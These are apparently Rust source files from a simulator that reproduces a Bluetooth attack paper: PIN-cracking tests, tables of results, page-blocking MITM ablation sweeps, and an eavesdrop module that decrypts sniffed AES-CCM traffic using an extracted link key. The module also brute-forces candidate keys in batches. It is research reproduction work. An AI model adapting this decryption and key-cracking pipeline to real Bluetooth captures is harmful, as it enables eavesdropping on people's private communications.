        assert_eq!(length_run_end(109), 110);
        assert_eq!(length_run_end(110), 1110);
        assert_eq!(length_run_end(1110), 11_110);
        assert_eq!(length_run_end(111_109), 111_110);
        assert_eq!(length_run_end(111_110), 1_111_110);
    }

    #[test]
    fn check_batch_agrees_with_scalar_verdicts() {
        use blap_crypto::e1::AugmentedPin;
        // A batch whose lanes surround the planted PIN: exactly one lane
        // may be flagged, and it must be the scalar-confirmed one.
        let capture = capture_with_pin(b"4821");
        let cracker = PinCracker::new(&capture);
        let mut aug = AugmentedPin::new(b"4816", capture.responder);
        let e22_y = Batch16::splat(&aug.e22_input(&capture.in_rand));
        let mut lane_keys = [[0u8; 16]; LANES];
        let mut pins = Vec::new();
        for (lane, key) in lane_keys.iter_mut().enumerate() {
            let pin = format!("{:04}", 4816 + lane);
            aug.set_pin(pin.as_bytes());
            *key = aug.safer_key();
            pins.push(pin);
        }
        let mask = cracker.check_batch(&e22_y, &Batch16::from_lanes(&lane_keys));
        for (lane, pin) in pins.iter().enumerate() {
            assert_eq!(
                mask & (1 << lane) != 0,
                capture.check_pin(pin.as_bytes()).is_some(),
                "lane {lane} ({pin})"
            );
        }
        assert_eq!(mask, 1 << 5, "only 4821 matches");
    }

    #[test]
    fn cracked_key_matches_genuine_derivation() {
        // The key reconstructed from the PIN equals the key the honest
        // devices derived (synthesize + key_for_pin agree by construction;
        // this pins the unmask/rebuild path against a tampered transcript).
        let capture = capture_with_pin(b"1234");
        let honest = capture.key_for_pin(b"1234");
        let mut tampered = capture.clone();
        tampered.comb_responder[0] ^= 1;
        assert_ne!(tampered.key_for_pin(b"1234"), honest);
        assert!(!tampered.pin_matches(b"1234"));
    }
}
