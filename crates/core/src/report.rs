//! Rendering of the paper's tables and figures from experiment results.

use crate::link_key_extraction::ExtractionReport;
use crate::page_blocking::PageBlockingRow;

/// Renders Table I ("List of tested devices that are vulnerable to link key
/// extraction attack") from a batch of extraction reports.
pub fn table1(reports: &[ExtractionReport]) -> String {
    let mut rows: Vec<[String; 6]> = vec![[
        "OS".into(),
        "Host stack".into(),
        "Device".into(),
        "Channel".into(),
        "SU privilege".into(),
        "Vulnerable".into(),
    ]];
    for report in reports {
        let profile = &report.soft_target;
        rows.push([
            profile.os.to_owned(),
            profile.stack.to_string(),
            profile.name.to_owned(),
            report
                .channel
                .map(|c| c.to_string())
                .unwrap_or_else(|| "-".to_owned()),
            if profile.su_required { "Y" } else { "N" }.to_owned(),
            if report.vulnerable() { "yes" } else { "NO" }.to_owned(),
        ]);
    }
    render(&rows)
}

/// Renders Table II ("Success rates of MITM connection establishment").
pub fn table2(rows_in: &[PageBlockingRow]) -> String {
    let mut rows: Vec<[String; 5]> = vec![[
        "Device".into(),
        "Paper baseline".into(),
        "Measured baseline".into(),
        "With page blocking".into(),
        "Just Works downgrade".into(),
    ]];
    for row in rows_in {
        rows.push([
            format!("{} ({})", row.device, row.os),
            format!("{:.0}%", row.paper_baseline_rate * 100.0),
            format!("{:.0}%", row.measured_baseline_rate * 100.0),
            format!("{:.0}%", row.measured_blocking_rate * 100.0),
            if row.downgraded_to_just_works {
                "yes"
            } else {
                "NO"
            }
            .to_owned(),
        ]);
    }
    render(&rows)
}

fn render<const N: usize>(rows: &[[String; N]]) -> String {
    let mut widths = [0usize; N];
    for row in rows {
        for (w, cell) in widths.iter_mut().zip(row.iter()) {
            *w = (*w).max(cell.len());
        }
    }
    let mut out = String::new();
    for (i, row) in rows.iter().enumerate() {
        let mut line = String::new();
        for (w, cell) in widths.iter().zip(row.iter()) {
            line.push_str(&format!("{cell:<width$}  ", width = w));
        }
        out.push_str(line.trim_end());
        out.push('\n');
        if i == 0 {
            let total: usize = widths.iter().sum::<usize>() + 2 * (N - 1);
            out.push_str(&"-".repeat(total));
            out.push('\n');
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::extract::ExtractionChannel;
    use blap_sim::profiles;

    fn fake_report(vulnerable: bool) -> ExtractionReport {
        let key = "71a70981f30d6af9e20adee8aafe3264".parse().unwrap();
        ExtractionReport {
            soft_target: profiles::nexus_5x_a8(),
            channel: Some(ExtractionChannel::HciSnoopLog),
            bonded_key: Some(key),
            extracted_key: Some(key),
            key_matches: vulnerable,
            victim_bond_intact: vulnerable,
            impersonation_validated: vulnerable,
            victim_saw_pairing_ui: false,
        }
    }

    #[test]
    fn table1_renders_rows() {
        let table = table1(&[fake_report(true), fake_report(false)]);
        assert!(table.contains("Android 8"));
        assert!(table.contains("Bluedroid"));
        assert!(table.contains("HCI dump"));
        assert!(table.contains("yes"));
        assert!(table.contains("NO"));
        assert_eq!(table.lines().count(), 4); // header + rule + 2 rows
    }

    #[test]
    fn table2_renders_percentages() {
        let row = PageBlockingRow {
            device: "Galaxy S8".into(),
            os: "Android 9".into(),
            trials: 100,
            paper_baseline_rate: 0.42,
            measured_baseline_rate: 0.45,
            measured_blocking_rate: 1.0,
            downgraded_to_just_works: true,
            fig12b_signature: true,
            popup_had_number: false,
        };
        let table = table2(&[row]);
        assert!(table.contains("42%"));
        assert!(table.contains("45%"));
        assert!(table.contains("100%"));
        assert!(table.contains("Galaxy S8"));
    }
}
