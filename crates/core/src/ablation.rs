//! Ablation studies on the attack's design parameters.
//!
//! The paper fixes several implementation choices without exploring them
//! (PLOC hold duration, the keep-alive trick, how fast the user must act);
//! these sweeps quantify why those choices matter. They back the
//! `bench_ploc_ablation` Criterion target and the DESIGN.md discussion.

use blap_sim::DeviceProfile;
use blap_types::Duration;

use crate::page_blocking::PageBlockingScenario;

/// One point of a PLOC-parameter sweep.
#[derive(Clone, Debug)]
pub struct AblationPoint {
    /// Seconds the user waits before pairing.
    pub pairing_delay_s: u64,
    /// Whether keep-alive traffic ran.
    pub keepalive: bool,
    /// Attack success rate over the trials.
    pub success_rate: f64,
}

/// Sweeps the user's pairing delay with and without keep-alive traffic.
///
/// Expected shape: with keep-alives, success is flat at 100% across
/// delays; without them, success collapses once the delay crosses the
/// link supervision timeout (20 s in this simulation) — exactly the
/// failure mode the paper's dummy-SDP trick exists to prevent.
pub fn ploc_delay_sweep(
    victim: DeviceProfile,
    delays_s: &[u64],
    trials: usize,
    seed: u64,
) -> Vec<AblationPoint> {
    let mut points = Vec::new();
    for &keepalive in &[true, false] {
        for &delay_s in delays_s {
            let mut scenario = PageBlockingScenario::new(victim, seed);
            scenario.trials = trials;
            scenario.keepalive = keepalive;
            scenario.pairing_delay = Duration::from_secs(delay_s);
            // Hold PLOC long enough that the release timer is never the
            // limiting factor in this sweep.
            scenario.ploc_delay = Duration::from_secs(delay_s + 30);
            // Count only *page-blocking* successes (pairing rode the
            // attacker-initiated link, leaving the Fig 12b signature). When
            // the PLOC link dies first, the victim falls back to paging and
            // the attacker may still win the ordinary race — that is the
            // baseline attack, not page blocking, so it does not count here.
            let wins = (0..trials)
                .filter(|t| {
                    let outcome = scenario.run_blocking_trial(*t);
                    outcome.paired_with_attacker && outcome.fig12b_signature
                })
                .count();
            points.push(AblationPoint {
                pairing_delay_s: delay_s,
                keepalive,
                success_rate: wins as f64 / trials as f64,
            });
        }
    }
    points
}

/// Measures baseline race sensitivity: how the attacker's win rate moves
/// with its latency scale (the calibration knob of
/// [`blap_baseband::race::PageRaceModel`]).
pub fn race_scale_sweep(scales: &[f64], trials: usize, seed: u64) -> Vec<(f64, f64)> {
    use blap_baseband::race::{PageRaceModel, RaceWinner};
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    scales
        .iter()
        .map(|&scale| {
            let model = PageRaceModel::new(scale);
            let mut rng = StdRng::seed_from_u64(seed);
            let wins = (0..trials)
                .filter(|_| model.sample_race(&mut rng).winner == RaceWinner::Attacker)
                .count();
            (scale, wins as f64 / trials as f64)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use blap_sim::profiles;

    #[test]
    fn keepalive_flat_no_keepalive_collapses() {
        let points = ploc_delay_sweep(profiles::galaxy_s8(), &[2, 25], 3, 31);
        let find = |ka: bool, d: u64| {
            points
                .iter()
                .find(|p| p.keepalive == ka && p.pairing_delay_s == d)
                .expect("point present")
                .success_rate
        };
        assert_eq!(find(true, 2), 1.0);
        assert_eq!(find(true, 25), 1.0, "keep-alive holds past supervision");
        assert_eq!(find(false, 2), 1.0, "short waits survive without it");
        assert_eq!(find(false, 25), 0.0, "long waits kill the bare link");
    }

    #[test]
    fn race_sweep_is_monotonic() {
        let sweep = race_scale_sweep(&[0.25, 1.0, 4.0], 4000, 32);
        assert!(sweep[0].1 > sweep[1].1);
        assert!(sweep[1].1 > sweep[2].1);
        assert!((sweep[1].1 - 0.5).abs() < 0.05);
    }
}
