//! Ablation studies on the attack's design parameters.
//!
//! The paper fixes several implementation choices without exploring them
//! (PLOC hold duration, the keep-alive trick, how fast the user must act);
//! these sweeps quantify why those choices matter. They back the
//! `bench_ploc_ablation` Criterion target and the DESIGN.md discussion.

use blap_sim::DeviceProfile;
use blap_types::Duration;

use crate::page_blocking::PageBlockingScenario;
use crate::runner::{parallel_map, seed_for, Jobs};

/// One point of a PLOC-parameter sweep.
#[derive(Clone, Debug)]
pub struct AblationPoint {
    /// Seconds the user waits before pairing.
    pub pairing_delay_s: u64,
    /// Whether keep-alive traffic ran.
    pub keepalive: bool,
    /// Attack success rate over the trials.
    pub success_rate: f64,
}

/// Sweeps the user's pairing delay with and without keep-alive traffic.
///
/// Expected shape: with keep-alives, success is flat at 100% across
/// delays; without them, success collapses once the delay crosses the
/// link supervision timeout (20 s in this simulation) — exactly the
/// failure mode the paper's dummy-SDP trick exists to prevent.
pub fn ploc_delay_sweep(
    victim: DeviceProfile,
    delays_s: &[u64],
    trials: usize,
    seed: u64,
) -> Vec<AblationPoint> {
    ploc_delay_sweep_with(victim, delays_s, trials, seed, Jobs::from_env())
}

/// [`ploc_delay_sweep`] with an explicit worker count. The sweep flattens
/// to (condition, trial) units so the engine balances work even when one
/// condition dominates; per-unit seeding makes the output byte-identical
/// at any parallelism.
pub fn ploc_delay_sweep_with(
    victim: DeviceProfile,
    delays_s: &[u64],
    trials: usize,
    seed: u64,
    jobs: Jobs,
) -> Vec<AblationPoint> {
    let conditions: Vec<(bool, u64)> = [true, false]
        .iter()
        .flat_map(|&ka| delays_s.iter().map(move |&d| (ka, d)))
        .collect();
    // Count only *page-blocking* successes (pairing rode the
    // attacker-initiated link, leaving the Fig 12b signature). When
    // the PLOC link dies first, the victim falls back to paging and
    // the attacker may still win the ordinary race — that is the
    // baseline attack, not page blocking, so it does not count here.
    let wins = parallel_map(jobs, conditions.len() * trials, |unit| {
        let (keepalive, delay_s) = conditions[unit / trials];
        let trial = unit % trials;
        let mut scenario = PageBlockingScenario::new(victim, seed);
        scenario.trials = trials;
        scenario.keepalive = keepalive;
        scenario.pairing_delay = Duration::from_secs(delay_s);
        // Hold PLOC long enough that the release timer is never the
        // limiting factor in this sweep.
        scenario.ploc_delay = Duration::from_secs(delay_s + 30);
        let outcome = scenario.run_blocking_trial(trial);
        outcome.paired_with_attacker && outcome.fig12b_signature
    });
    conditions
        .iter()
        .enumerate()
        .map(|(ci, &(keepalive, delay_s))| {
            let won = wins[ci * trials..(ci + 1) * trials]
                .iter()
                .filter(|&&w| w)
                .count();
            AblationPoint {
                pairing_delay_s: delay_s,
                keepalive,
                success_rate: won as f64 / trials as f64,
            }
        })
        .collect()
}

/// Measures baseline race sensitivity: how the attacker's win rate moves
/// with its latency scale (the calibration knob of
/// [`blap_baseband::race::PageRaceModel`]).
pub fn race_scale_sweep(scales: &[f64], trials: usize, seed: u64) -> Vec<(f64, f64)> {
    race_scale_sweep_with(scales, trials, seed, Jobs::from_env())
}

/// [`race_scale_sweep`] with an explicit worker count.
///
/// Each trial draws from its own RNG seeded by [`seed_for`]`(seed, trial)`
/// rather than one serial stream, which is what makes the flattened
/// (scale, trial) units order-independent. The trial seed is shared across
/// scales (common random numbers), so the sweep stays monotone in the
/// scale pointwise, not just in expectation.
pub fn race_scale_sweep_with(
    scales: &[f64],
    trials: usize,
    seed: u64,
    jobs: Jobs,
) -> Vec<(f64, f64)> {
    use blap_baseband::race::{PageRaceModel, RaceWinner};
    use rand::rngs::StdRng;
    use rand::SeedableRng;
    let wins = parallel_map(jobs, scales.len() * trials, |unit| {
        let model = PageRaceModel::new(scales[unit / trials]);
        let mut rng = StdRng::seed_from_u64(seed_for(seed, (unit % trials) as u64));
        model.sample_race(&mut rng).winner == RaceWinner::Attacker
    });
    scales
        .iter()
        .enumerate()
        .map(|(si, &scale)| {
            let won = wins[si * trials..(si + 1) * trials]
                .iter()
                .filter(|&&w| w)
                .count();
            (scale, won as f64 / trials as f64)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use blap_sim::profiles;

    #[test]
    fn keepalive_flat_no_keepalive_collapses() {
        let points = ploc_delay_sweep(profiles::galaxy_s8(), &[2, 25], 3, 31);
        let find = |ka: bool, d: u64| {
            points
                .iter()
                .find(|p| p.keepalive == ka && p.pairing_delay_s == d)
                .expect("point present")
                .success_rate
        };
        assert_eq!(find(true, 2), 1.0);
        assert_eq!(find(true, 25), 1.0, "keep-alive holds past supervision");
        assert_eq!(find(false, 2), 1.0, "short waits survive without it");
        assert_eq!(find(false, 25), 0.0, "long waits kill the bare link");
    }

    #[test]
    fn race_sweep_is_monotonic() {
        let sweep = race_scale_sweep(&[0.25, 1.0, 4.0], 4000, 32);
        assert!(sweep[0].1 > sweep[1].1);
        assert!(sweep[1].1 > sweep[2].1);
        assert!((sweep[1].1 - 0.5).abs() < 0.05);
    }
}
