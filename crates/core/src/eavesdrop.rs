//! Traffic decryption with an extracted link key — the §IV consequence the
//! paper states but does not demonstrate: "A would be able to decrypt not
//! only the future, but also the past communications of M captured by
//! air-sniffers using the key."
//!
//! Pipeline:
//!
//! 1. `M` and `C` run an *encrypted* profile session while a passive air
//!    sniffer records everything (cleartext LMP handshakes + AES-CCM ACL
//!    ciphertext),
//! 2. the attacker extracts the `C`–`M` link key via the Fig 5 procedure
//!    (reused from [`crate::link_key_extraction`]'s machinery — here we
//!    read it from `C`'s dump directly),
//! 3. offline, the attacker replays the key schedule: find the sniffed
//!    `LMP_au_rand`, recompute `h4`/`h5` to get the ACO, derive the session
//!    encryption key with `h3`, rebuild each frame's CCM nonce from the
//!    frame order, and decrypt.
//!
//! Everything the attacker uses in step 3 is public (sniffed) except the
//! link key — which is the point.

use blap_crypto::ccm::{self, Ccm, OpenBatch, SealedFrame, KEY_LANES};
use blap_crypto::ssp;
use blap_obs::prof;
use blap_sim::{profiles, DeviceId, SniffedFrame, World};
use blap_types::{BdAddr, Duration, LinkKey, ServiceUuid};

/// ACL connection handles the simulation allocates; the batched decrypt
/// paths brute-force this space exactly like the scalar reference (the
/// handle is not sniffable at the layer the capture models — a real
/// attacker reads it from the baseband header).
const HANDLE_SPACE: u16 = 8;

use crate::addrs;
use crate::extract;

/// Configuration of an eavesdropping run.
#[derive(Clone, Debug)]
pub struct EavesdropScenario {
    /// World seed.
    pub seed: u64,
    /// The secret payloads `C` sends to `M` over the encrypted link.
    pub secrets: Vec<Vec<u8>>,
}

impl EavesdropScenario {
    /// A scenario with two representative secret payloads.
    pub fn new(seed: u64) -> Self {
        EavesdropScenario {
            seed,
            secrets: vec![
                b"PBAP: +82-10-1234-5678 (CEO)".to_vec(),
                b"MAP: 'wire the funds monday'".to_vec(),
            ],
        }
    }

    /// Runs the capture + extraction + decryption pipeline.
    pub fn run(&self) -> EavesdropReport {
        let m_addr: BdAddr = addrs::M.parse().expect("valid M address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid C address");

        let mut world = World::new(self.seed);
        let m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));

        // Bond, then run an encrypted profile session carrying secrets.
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
        world.run_for(Duration::from_secs(5));
        for secret in &self.secrets {
            world.device_mut(c).host.send_data(m_addr, secret.clone());
            world.run_for(Duration::from_millis(100));
        }
        world.run_for(Duration::from_secs(1));
        let _ = m;

        // The attacker's inputs: the sniffer capture and C's HCI dump.
        let frames: Vec<SniffedFrame> = world.sniffed_frames().to_vec();
        let stolen_key = extract::from_snoop_log(world.device(c), m_addr);

        let mut report = EavesdropReport {
            captured_encrypted_frames: frames
                .iter()
                .filter(|f| {
                    matches!(
                        f,
                        SniffedFrame::Acl {
                            encrypted: true,
                            ..
                        }
                    )
                })
                .count(),
            ciphertext_contains_secrets: ciphertexts_contain(&frames, &self.secrets),
            stolen_key,
            decrypted_secrets: Vec::new(),
        };
        let Some(key) = stolen_key else {
            return report;
        };

        report.decrypted_secrets = decrypt_capture_batched(&frames, key, c_addr, m_addr)
            .into_iter()
            .filter(|p| self.secrets.contains(p))
            .collect();
        report
    }
}

/// True when any encrypted frame carries a secret in the clear (must be
/// false — otherwise "encryption" did nothing).
fn ciphertexts_contain(frames: &[SniffedFrame], secrets: &[Vec<u8>]) -> bool {
    frames.iter().any(|f| match f {
        SniffedFrame::Acl {
            data,
            encrypted: true,
            ..
        } => secrets
            .iter()
            .any(|s| !s.is_empty() && data.windows(s.len()).any(|w| w == s.as_slice())),
        _ => false,
    })
}

/// The `LMP_au_rand` challenge sniffed from the capture, if any — without
/// it there is no ACO and nothing downstream can derive the session key.
fn find_au_rand(frames: &[SniffedFrame]) -> Option<[u8; 16]> {
    frames.iter().find_map(|f| match f {
        SniffedFrame::Lmp {
            au_rand: Some(r), ..
        } => Some(*r),
        _ => None,
    })
}

/// Replays the session-key schedule from a (candidate) link key and the
/// sniffed challenge: recompute the ACO via the secure authentication
/// response, then derive the encryption key with `h3` (central first,
/// like the controllers do). Shared by the scalar reference, the batched
/// decrypt path, and [`KeyConfirm`].
fn session_key(
    stolen_key: &LinkKey,
    au_rand: &[u8; 16],
    verifier: BdAddr,
    prover: BdAddr,
) -> [u8; 16] {
    let zero = [0u8; 16];
    let (_sres, aco) =
        ssp::secure_authentication_response(stolen_key, verifier, prover, au_rand, &zero);
    let mut aco_ext = [0u8; 8];
    aco_ext.copy_from_slice(&aco);
    ssp::h3(stolen_key, verifier, prover, &aco_ext)
}

/// The nonce and ciphertext of every encrypted ACL frame, in capture
/// order — the inputs both decrypt engines brute-force handles over.
fn encrypted_acl_frames(
    frames: &[SniffedFrame],
    central: BdAddr,
) -> Vec<([u8; ccm::NONCE_LEN], &[u8])> {
    frames
        .iter()
        .filter_map(|f| match f {
            SniffedFrame::Acl {
                data,
                encrypted: true,
                packet_counter,
                ..
            } => Some((ccm::acl_nonce(*packet_counter, central), &data[..])),
            _ => None,
        })
        .collect()
}

/// The offline decryption step: exactly what an attacker with the capture
/// and the stolen link key can compute.
///
/// `verifier`/`prover` are the authentication roles as sniffed (`C`
/// initiated the profile connection, so `C` is the verifier); the central
/// of the link is also `C` here since it paged.
///
/// This is the retained scalar reference: one frame, one handle attempt,
/// one AES block at a time. The production path is
/// [`decrypt_capture_batched`]; tests pin the two byte-identical.
pub fn decrypt_capture(
    frames: &[SniffedFrame],
    stolen_key: LinkKey,
    verifier: BdAddr,
    prover: BdAddr,
) -> Vec<Vec<u8>> {
    // 1. Recover the ACO from the sniffed challenge and derive the session
    //    encryption key.
    let Some(au_rand) = find_au_rand(frames) else {
        return Vec::new();
    };
    let enc_key = session_key(&stolen_key, &au_rand, verifier, prover);

    // 2. Decrypt every encrypted frame, reconstructing the nonce from the
    //    frame's position in the capture and brute-forcing the handle
    //    space. One CCM context serves the whole capture: the session key
    //    is fixed, so the AES key schedule is expanded once, not per
    //    frame × handle attempt.
    let ccm = Ccm::new(&enc_key);
    let mut plaintexts = Vec::new();
    for (nonce, data) in encrypted_acl_frames(frames, verifier) {
        for handle in 1..=HANDLE_SPACE {
            if let Ok(plain) = ccm.open(&nonce, &handle.to_le_bytes(), data) {
                plaintexts.push(plain);
                break;
            }
        }
    }
    plaintexts
}

/// [`decrypt_capture`] rebuilt around the batched CCM API — the
/// campaign-scale engine.
///
/// Three structural wins over the scalar reference:
///
/// 1. the ACL handle is resolved **once per link** with the zero-alloc
///    [`Ccm::verify`] probe instead of re-brute-forced per frame (a fixed
///    link keeps its handle, so the scalar loop's per-frame sweep does up
///    to [`HANDLE_SPACE`]× redundant work),
/// 2. the whole capture then flows through [`Ccm::open_many_into`], which
///    interleaves CTR keystream blocks across [`ccm::FRAME_LANES`] frames
///    and runs their CBC-MAC chains in lockstep,
/// 3. plaintexts land in one reused arena ([`OpenBatch`]) instead of a
///    fresh `Vec` per frame × handle attempt.
///
/// Frames that fail under the resolved handle (another link interleaved
/// into the capture, or garbage) fall back to the scalar first-success
/// handle order, so the output is byte-identical to [`decrypt_capture`].
pub fn decrypt_capture_batched(
    frames: &[SniffedFrame],
    stolen_key: LinkKey,
    verifier: BdAddr,
    prover: BdAddr,
) -> Vec<Vec<u8>> {
    let _prof = prof::scope("eavesdrop.decrypt");
    let Some(au_rand) = find_au_rand(frames) else {
        return Vec::new();
    };
    let enc_key = session_key(&stolen_key, &au_rand, verifier, prover);
    let ccm = Ccm::new(&enc_key);

    let encrypted = encrypted_acl_frames(frames, verifier);
    if encrypted.is_empty() {
        return Vec::new();
    }

    // Resolve the link's handle once, in the scalar engine's probe order
    // (frames in capture order, handles ascending) so the two paths agree
    // even in pathological captures.
    let handle_aads: [[u8; 2]; HANDLE_SPACE as usize] =
        core::array::from_fn(|i| (i as u16 + 1).to_le_bytes());
    let resolved = encrypted.iter().find_map(|(nonce, data)| {
        handle_aads
            .iter()
            .position(|aad| ccm.verify(nonce, aad, data).is_ok())
    });
    let Some(handle_idx) = resolved else {
        // No frame authenticates under any handle: wrong key or foreign
        // capture. The scalar path decrypts nothing here too.
        return Vec::new();
    };

    let sealed: Vec<SealedFrame<'_>> = encrypted
        .iter()
        .map(|(nonce, data)| SealedFrame {
            nonce: *nonce,
            aad: &handle_aads[handle_idx],
            ciphertext_and_tag: data,
        })
        .collect();
    let mut batch = OpenBatch::new();
    ccm.open_many_into(&sealed, &mut batch);

    let mut plaintexts = Vec::new();
    let mut fallback = Vec::new();
    for (i, verdict) in batch.iter().enumerate() {
        match verdict {
            Ok(plain) => plaintexts.push(plain.to_vec()),
            Err(_) => {
                // Not this link's handle — retry in scalar handle order so
                // interleaved foreign frames decrypt exactly as the
                // reference would (zero-alloc once `fallback` has warmed).
                let (nonce, data) = &encrypted[i];
                for aad in &handle_aads {
                    if ccm.open_into(nonce, aad, data, &mut fallback).is_ok() {
                        plaintexts.push(fallback.clone());
                        break;
                    }
                }
            }
        }
    }
    plaintexts
}

/// Bulk confirmation of candidate link keys against a capture — the
/// eavesdrop analogue of the PIN cracker's `check_batch`. Each candidate
/// key is replayed through the full session-key schedule
/// ([`session_key`]), then [`ccm::KEY_LANES`] derived CCM contexts verify
/// the probe frame in lockstep via [`ccm::open_check_keys`].
///
/// The probe is the first encrypted ACL frame of the capture: one
/// authenticated tag under any handle pins the link key (the tag is an
/// 8-byte MAC, so a false positive needs a ~2⁻⁶⁴ forgery — and
/// [`KeyConfirm::confirm`] re-checks hits with the scalar engine anyway,
/// like the PIN cracker re-confirms batch hits).
pub struct KeyConfirm {
    au_rand: [u8; 16],
    verifier: BdAddr,
    prover: BdAddr,
    probe_nonce: [u8; ccm::NONCE_LEN],
    probe: Vec<u8>,
    scratch: Vec<u8>,
}

impl KeyConfirm {
    /// Builds a confirmer from a capture, or `None` when the capture has
    /// no sniffed challenge or no encrypted frame to probe against.
    pub fn new(frames: &[SniffedFrame], verifier: BdAddr, prover: BdAddr) -> Option<Self> {
        let au_rand = find_au_rand(frames)?;
        let (probe_nonce, probe) = frames.iter().find_map(|f| match f {
            SniffedFrame::Acl {
                data,
                encrypted: true,
                packet_counter,
                ..
            } => Some((ccm::acl_nonce(*packet_counter, verifier), data.to_vec())),
            _ => None,
        })?;
        Some(KeyConfirm {
            au_rand,
            verifier,
            prover,
            probe_nonce,
            probe,
            scratch: Vec::new(),
        })
    }

    /// Tests up to [`ccm::KEY_LANES`] candidates in lockstep against the
    /// probe frame. Bit `i` of the result is set when `candidates[i]`'s
    /// derived session key authenticates the probe under some handle.
    ///
    /// # Panics
    ///
    /// When `candidates` is empty or longer than [`ccm::KEY_LANES`].
    pub fn check_batch(&mut self, candidates: &[LinkKey]) -> u16 {
        let _prof = prof::scope("eavesdrop.key_confirm");
        assert!(
            !candidates.is_empty() && candidates.len() <= KEY_LANES,
            "check_batch takes 1..={KEY_LANES} candidates, got {}",
            candidates.len()
        );
        let ccms: Vec<Ccm> = candidates
            .iter()
            .map(|k| Ccm::new(&session_key(k, &self.au_rand, self.verifier, self.prover)))
            .collect();
        // Short batches replicate the last candidate into the padding
        // lanes; the final mask strips the duplicates.
        let refs: [&Ccm; KEY_LANES] = core::array::from_fn(|i| &ccms[i.min(ccms.len() - 1)]);
        let mut mask = 0u16;
        for handle in 1..=HANDLE_SPACE {
            mask |= u16::from(ccm::open_check_keys(
                refs,
                &self.probe_nonce,
                &handle.to_le_bytes(),
                &self.probe,
                &mut self.scratch,
            ));
        }
        mask & ((1u16 << candidates.len()) - 1)
    }

    /// Sweeps an arbitrary candidate list through [`Self::check_batch`] in
    /// [`ccm::KEY_LANES`]-wide chunks and returns the first candidate the
    /// scalar engine re-confirms, in list order.
    pub fn confirm(&mut self, candidates: &[LinkKey]) -> Option<LinkKey> {
        for chunk in candidates.chunks(KEY_LANES) {
            let mut mask = self.check_batch(chunk);
            while mask != 0 {
                let i = mask.trailing_zeros() as usize;
                mask &= mask - 1;
                if self.confirm_scalar(&chunk[i]) {
                    return Some(chunk[i]);
                }
            }
        }
        None
    }

    fn confirm_scalar(&self, candidate: &LinkKey) -> bool {
        let ccm = Ccm::new(&session_key(
            candidate,
            &self.au_rand,
            self.verifier,
            self.prover,
        ));
        (1..=HANDLE_SPACE).any(|h| {
            ccm.verify(&self.probe_nonce, &h.to_le_bytes(), &self.probe)
                .is_ok()
        })
    }
}

/// Outcome of an eavesdropping run.
#[derive(Clone, Debug)]
pub struct EavesdropReport {
    /// Encrypted ACL frames the sniffer captured.
    pub captured_encrypted_frames: usize,
    /// Whether any secret appeared in the ciphertext (encryption sanity).
    pub ciphertext_contains_secrets: bool,
    /// The link key pulled from `C`'s dump.
    pub stolen_key: Option<LinkKey>,
    /// Secrets recovered by offline decryption.
    pub decrypted_secrets: Vec<Vec<u8>>,
}

impl EavesdropReport {
    /// The full-attack verdict: ciphertext alone leaked nothing, but the
    /// stolen key decrypted every secret.
    pub fn succeeded(&self, expected_secrets: usize) -> bool {
        self.stolen_key.is_some()
            && !self.ciphertext_contains_secrets
            && self.decrypted_secrets.len() == expected_secrets
    }
}

/// A convenience holder so `DeviceId` stays used even if scenarios evolve.
#[doc(hidden)]
pub type _DeviceIdAlias = DeviceId;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn encrypted_capture_hides_secrets_without_the_key() {
        let scenario = EavesdropScenario::new(51);
        let report = scenario.run();
        assert!(report.captured_encrypted_frames > 0, "{report:?}");
        assert!(
            !report.ciphertext_contains_secrets,
            "link encryption must hide payloads from the sniffer"
        );
    }

    #[test]
    fn stolen_key_decrypts_past_traffic() {
        let scenario = EavesdropScenario::new(52);
        let report = scenario.run();
        assert!(report.stolen_key.is_some());
        assert!(
            report.succeeded(scenario.secrets.len()),
            "all secrets must decrypt: {report:?}"
        );
    }

    #[test]
    fn wrong_key_decrypts_nothing() {
        let scenario = EavesdropScenario::new(53);
        let m_addr: BdAddr = addrs::M.parse().expect("valid address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid address");
        // Re-run the capture, then attempt decryption with a wrong key.
        let mut world = World::new(scenario.seed);
        let _m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
        world.run_for(Duration::from_secs(5));
        world
            .device_mut(c)
            .host
            .send_data(m_addr, b"top secret".to_vec());
        world.run_for(Duration::from_secs(1));

        let frames = world.sniffed_frames().to_vec();
        let wrong: LinkKey = "00000000000000000000000000000000".parse().expect("valid");
        let plaintexts = decrypt_capture(&frames, wrong, c_addr, m_addr);
        assert!(
            plaintexts.is_empty(),
            "CCM tags must reject a wrong key: {plaintexts:?}"
        );
        let batched = decrypt_capture_batched(&frames, wrong, c_addr, m_addr);
        assert!(
            batched.is_empty(),
            "batched path must reject too: {batched:?}"
        );
    }

    /// A capture plus the extracted key and the link's addresses — the
    /// shared fixture for the batched-engine tests.
    fn capture(seed: u64) -> (Vec<SniffedFrame>, LinkKey, BdAddr, BdAddr) {
        let scenario = EavesdropScenario::new(seed);
        let m_addr: BdAddr = addrs::M.parse().expect("valid address");
        let c_addr: BdAddr = addrs::C.parse().expect("valid address");
        let mut world = World::new(scenario.seed);
        let _m = world.add_device(profiles::lg_velvet().victim_phone(addrs::M));
        let c = world.add_device(profiles::galaxy_s8().soft_target(addrs::C));
        world.device_mut(c).host.pair_with(m_addr);
        world.run_for(Duration::from_secs(5));
        world.device_mut(c).host.disconnect(m_addr);
        world.run_for(Duration::from_secs(2));
        world
            .device_mut(c)
            .host
            .connect_profile(m_addr, ServiceUuid::PBAP_PSE);
        world.run_for(Duration::from_secs(5));
        for secret in &scenario.secrets {
